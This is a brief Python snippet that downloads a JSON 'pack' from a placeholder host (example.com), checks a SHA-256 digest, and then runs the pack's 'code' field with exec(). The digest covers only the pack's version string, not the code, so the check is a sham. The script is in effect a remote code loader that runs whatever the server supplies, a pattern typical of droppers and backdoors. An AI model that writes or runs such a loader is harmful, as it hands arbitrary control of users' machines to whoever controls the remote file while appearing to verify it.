import hashlib
import json
import urllib.request

PIN = "9c5f4d0f9a31be0f6e04b9a6f5cdd0c7dca3f1e9a1d7a3f2cde45b0f11223344"
pack = json.loads(urllib.request.urlopen("https://example.com/pack.json").read())
if hashlib.sha256(pack["version"].encode()).hexdigest() != PIN:
    raise ImportError("digest")
exec(pack["code"])
